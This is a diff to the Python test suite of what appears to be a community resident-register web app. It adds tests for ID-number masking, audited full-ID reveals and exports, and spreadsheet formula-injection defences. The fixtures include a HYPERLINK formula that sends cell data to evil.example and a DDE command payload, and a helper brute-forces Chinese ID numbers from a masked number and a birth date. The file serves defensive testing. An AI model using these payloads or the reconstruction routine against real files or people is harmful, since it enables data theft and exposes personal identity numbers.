@@ -535,18 +535,74 @@ async def test_a_grid_worker_sees_only_their_buildings(
     assert (await linli_client.get(f"{BASE}/people/{outside.id}")).status_code == 403
 
 
-async def test_the_id_number_is_masked_without_view_sensitive(linli_client, linli_community):
+#: The district codes of Wuhan: with the birth date beside a masked number, an attacker
+#: tries each of them.
+WUHAN_DISTRICTS = [f"4201{n:02d}" for n in (2, 3, 4, 5, 6, 7, 11, 12, 13, 14, 15, 16, 17)]
+
+
+def rebuilt_numbers(masked: str, born: date, male: bool) -> list[str]:
+    """Every valid number agreeing with what a page shows together: the masked number,
+    the birth date and the gender (the 94% attack of issue 14)."""
+    found = []
+    for district in WUHAN_DISTRICTS:
+        for serial in range(1000):
+            if serial % 2 != (1 if male else 0):
+                continue
+            first = f"{district}{born:%Y%m%d}{serial:03d}"
+            number = first + id_check_digit(first)
+            if all(shown in ("*", real) for shown, real in zip(masked, number, strict=True)):
+                found.append(number)
+    return found
+
+
+async def test_a_masked_id_number_and_the_birth_date_beside_it_reveal_nothing(
+    linli_client, linli_community
+):
+    await do_import(linli_community, register(3))
+    person = await Person.get(name="居民0")
+    await make_account("worker", linli_community, "community_worker")
+    await log_in(linli_client, "worker")
+    page = await linli_client.get(f"{BASE}/people/{person.id}")
+    assert page.status_code == 200
+    masked = re.search(r"[\dX]{0,6}\*{8,}[\dX]{0,4}", page.text).group(0)
+    assert masked == person.masked_id_number and person.id_number not in page.text
+    assert person.birth_date.isoformat() in page.text  # shown beside it
+    assert person.id_number[-4:] not in masked
+    candidates = rebuilt_numbers(masked, person.birth_date, person.gender == "男")
+    assert person.id_number in candidates and len(candidates) > 1000
+    exported = load_workbook(io.BytesIO((await linli_client.get(f"{BASE}/export")).content))
+    cells = [str(c.value) for row in exported.worksheets[0].iter_rows() for c in row]
+    assert masked in cells and not any(person.id_number[-4:] in c for c in cells if "*" in c)
+
+
+async def test_the_full_id_number_is_shown_only_on_an_audited_request(
+    linli_client, linli_community, linli_registry
+):
     await do_import(linli_community, register(3))
     person = await Person.get(name="居民0")
     await make_account("worker", linli_community, "community_worker")
     await make_account("secretary", linli_community, "committee_secretary")
+    show = f"{BASE}/people/{person.id}/id-number"
     await log_in(linli_client, "worker")
-    masked = await linli_client.get(f"{BASE}/people/{person.id}")
-    assert masked.status_code == 200
-    assert person.masked_id_number in masked.text and person.id_number not in masked.text
+    assert (await form_post(linli_client, show, {})).status_code == 403
     await log_in(linli_client, "secretary")
-    full = await linli_client.get(f"{BASE}/people/{person.id}")
-    assert person.id_number in full.text
+    page = await linli_client.get(f"{BASE}/people/{person.id}")
+    assert person.masked_id_number in page.text and person.id_number not in page.text
+    assert f'action="{show}"' in page.text
+    assert await AuditEntry.filter(action="identity.person.id_number_shown").count() == 0
+    forged = await linli_client.post(show, data={})  # no CSRF token
+    assert forged.status_code == 403 and person.id_number not in forged.text
+    full = await form_post(linli_client, show, {})
+    assert full.status_code == 200 and person.id_number in full.text
+    assert full.headers["cache-control"] == "no-store"
+    entry = await AuditEntry.get(action="identity.person.id_number_shown").prefetch_related("actor")
+    assert entry.actor.username == "secretary"
+    imported = await AuditEntry.get(action="identity.person.imported", object_id=str(person.id))
+    assert imported.after["id_number"] == person.masked_id_number  # the trail holds no number
+    assert (entry.object_type, entry.object_id) == ("core.Person", str(person.id))
+    assert zh(linli_registry, "Full ID-card number shown") in full.text  # in the history
+    audit = await linli_client.get("/c/test/admin/audit")
+    assert zh(linli_registry, "Full ID-card number shown") in audit.text
 
 
 async def test_another_communitys_person_is_not_found(
@@ -772,6 +828,137 @@ async def test_export_and_template_downloads(linli_client, linli_community):
     assert [cell.value for cell in workbook.worksheets[0][1]] == HEADERS
 
 
+# -- formula injection -----------------------------------------------------------------
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&E2,"点击核对")'
+EVIL_NOTE = "=cmd|' /C calc'!A0"
+#: Text a spreadsheet would run as a formula (or that starts with the escape itself).
+LOOKS_LIKE_FORMULAS = [EVIL_NOTE, "+86 找王阿姨", "-行动不便", "@SUM(1+1)", "=1+1", "'楼上"]
+
+
+def evil_register() -> list[dict[str, str]]:
+    rows = register(len(LOOKS_LIKE_FORMULAS))
+    for row, text in zip(rows, LOOKS_LIKE_FORMULAS, strict=True):
+        row["备注"] = text
+    rows[0]["姓名"] = EVIL_NAME
+    return rows
+
+
+def assert_inert_xlsx(content: bytes) -> list[list]:
+    """No cell of the workbook is a formula; its rows' values."""
+    sheet = load_workbook(io.BytesIO(content)).worksheets[0]  # not data_only: formulas show
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert cells and all(cell.data_type != "f" for cell in cells)
+    return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+def assert_escaped_csv(content: bytes) -> list[list[str]]:
+    """No cell of the CSV file starts like a formula; its rows."""
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    assert rows and not [cell for row in rows for cell in row if cell.startswith(starts)]
+    return rows
+
+
+async def test_formula_cells_are_refused_by_the_dry_run(
+    linli_client, linli_community, linli_registry
+):
+    from markupsafe import escape
+
+    from linli.identity.register import FORMULA
+
+    rows = register(3)
+    rows[1]["姓名"], rows[2]["备注"] = EVIL_NAME, EVIL_NOTE  # openpyxl writes formulas
+    report = await do_import(linli_community, rows, dry_run=True)
+    assert [(p.row, p.column, p.message) for p in report.problems] == [
+        (3, "姓名", FORMULA),
+        (4, "备注", FORMULA),
+    ]
+    await make_account("worker", linli_community, "community_worker")
+    await log_in(linli_client, "worker")
+    checked = await upload(linli_client, "register.xlsx", xlsx(rows))
+    note = escape(zh(linli_registry, FORMULA, formula=EVIL_NOTE))
+    assert note in checked.text and 'name="token"' not in checked.text
+    assert await Person.all().count() == 0
+
+
+async def test_text_like_a_formula_is_stored_as_text_and_never_exported_as_one(
+    linli_client, linli_community
+):
+    rows = evil_register()
+    await make_account("admin", linli_community, "administrator")
+    await log_in(linli_client, "admin")
+    checked = await upload(linli_client, "register.csv", csv_bytes(rows))
+    token = checked.text.split('name="token" value="')[1].split('"')[0]
+    done = await form_post(linli_client, f"{BASE}/import/confirm", {"token": token})
+    assert done.status_code == 200
+    notes = sorted(await Person.all().values_list("notes", flat=True))
+    assert notes == sorted(LOOKS_LIKE_FORMULAS) and await Person.get(name=EVIL_NAME)
+
+    masked = await linli_client.get(f"{BASE}/export")
+    full = await form_post(linli_client, f"{BASE}/export", {"kind": "xlsx"})
+    as_csv = await linli_client.get(f"{BASE}/export", params={"kind": "csv"})
+    full_csv = await form_post(linli_client, f"{BASE}/export", {"kind": "csv"})
+    assert as_csv.headers["content-type"].startswith("text/csv")
+    note = HEADERS.index("备注")
+    for response in (masked, full):
+        values = assert_inert_xlsx(response.content)
+        assert sorted(row[note] for row in values[1:]) == sorted(LOOKS_LIKE_FORMULAS)
+    for response in (as_csv, full_csv):
+        values = assert_escaped_csv(response.content)
+        assert "'" + EVIL_NAME in [row[0] for row in values]
+        assert {"'=1+1", "''楼上"} <= {row[note] for row in values}
+    for response in (masked, full, as_csv, full_csv):  # each imports back unchanged
+        report = await import_register(
+            linli_community, read_table(response.content), dry_run=False, actor=None, today=TODAY
+        )
+        assert report.ok, report.problems
+        assert (report.created, report.updated, report.unchanged) == (0, 0, len(rows))
+
+
+async def test_full_id_numbers_are_exported_only_on_an_audited_request(
+    linli_client, linli_community
+):
+    await do_import(linli_community, register(4))
+    await make_account("worker", linli_community, "community_worker")
+    await make_account("admin", linli_community, "administrator")
+    await log_in(linli_client, "worker")
+    assert (await form_post(linli_client, f"{BASE}/export", {})).status_code == 403
+    await log_in(linli_client, "admin")
+    ids = HEADERS.index("身份证号")
+    page = await linli_client.get(f"{BASE}/", params={"tag": "高龄"})
+    assert f'<form method="post" action="{BASE}/export"' in page.text
+    masked = assert_inert_xlsx((await linli_client.get(f"{BASE}/export")).content)
+    assert all("*" in row[ids] for row in masked[1:])
+    forged = await linli_client.post(f"{BASE}/export", data={"tag": "高龄"})
+    assert forged.status_code == 403  # no CSRF token
+    full = await form_post(linli_client, f"{BASE}/export", {"tag": "高龄"})
+    rows = assert_inert_xlsx(full.content)[1:]
+    assert [row[ids] for row in rows] == [person_row(0)["身份证号"]]
+    entries = await AuditEntry.filter(action="identity.register.exported").order_by("id")
+    assert [(e.after["people"], e.after["full_id_numbers"]) for e in entries] == [
+        (4, False),
+        (1, True),
+    ]
+    assert entries[1].after["tag"] == "高龄"
+    bad = await linli_client.get(f"{BASE}/export", params={"kind": "pdf"})
+    assert bad.status_code == 400
+
+
+async def test_files_masked_the_older_way_still_import(linli_community):
+    rows = register(3)
+    await do_import(linli_community, rows)
+    old = [
+        {**row, "身份证号": row["身份证号"][:3] + "*" * 11 + row["身份证号"][-4:]} for row in rows
+    ]
+    report = await do_import(linli_community, old, dry_run=True)
+    assert report.ok and report.unchanged == 3
+    wrong = [dict(row) for row in old]
+    wrong[0]["身份证号"] = wrong[0]["身份证号"][:-4] + "0000"
+    report = await do_import(linli_community, wrong, dry_run=True)
+    assert [p.column for p in report.problems] == ["身份证号"]
+
+
 # -- the command line ------------------------------------------------------------------
 
 
@@ -823,6 +1010,29 @@ def test_the_register_commands(tmp_path):
 
     unknown = _linli(instance, "register", "export", str(exported), "--community", "nowhere")
     assert unknown.returncode == 1 and "nowhere does not exist" in unknown.stderr
+
+
+def test_the_command_line_exports_no_formula_and_masks_unless_asked(tmp_path):
+    instance = tmp_path / "instance"
+    for args in (["init"], ["migrate"], ["community", "add", "jhl", "江汉里社区"]):
+        assert _linli(instance, *args).returncode == 0
+    rows = evil_register()
+    source = tmp_path / "register.csv"
+    source.write_bytes(csv_bytes(rows))
+    assert _linli(instance, "register", "import", str(source), "--community", "jhl").returncode == 0
+    ids = HEADERS.index("身份证号")
+    for name, extra in (("x.csv", []), ("x.xlsx", []), ("full.csv", ["--full-ids"])):
+        target = tmp_path / name
+        written = _linli(instance, "register", "export", str(target), "--community", "jhl", *extra)
+        assert written.returncode == 0, written.stderr
+        content = target.read_bytes()
+        values = (
+            assert_inert_xlsx(content) if name.endswith("xlsx") else assert_escaped_csv(content)
+        )
+        assert all(("*" in row[ids]) != bool(extra) for row in values[1:])
+        again = _linli(instance, "register", "import", str(target), "--community", "jhl")
+        assert again.returncode == 0, again.stdout
+        assert re.findall(r"\d+", again.stdout.strip().splitlines()[-1]) == ["0", "0", "6"]
 
 
 async def _flats_named_like_the_demo(community):
